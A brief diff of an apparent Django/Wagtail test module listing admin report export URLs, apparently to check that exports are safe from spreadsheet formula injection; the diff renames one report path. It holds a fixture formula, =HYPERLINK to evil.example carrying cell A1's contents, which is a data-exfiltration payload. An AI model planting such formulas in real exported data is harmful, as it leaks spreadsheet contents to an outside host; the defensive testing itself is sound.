@@ -21,7 +21,7 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/"&A1,"Open, please")'
 # Wagtail's reports and lists that export, and ours. The report on who did what names everything that was ever published.
 EXPORTS = (
-    "/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/reports/printed/", "/admin/pages/explorer/",
+    "/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/reports/public-pages/", "/admin/pages/explorer/",
     "/admin/snippets/helpline/programme/", "/admin/redirects/",
 )  # fmt: skip
 
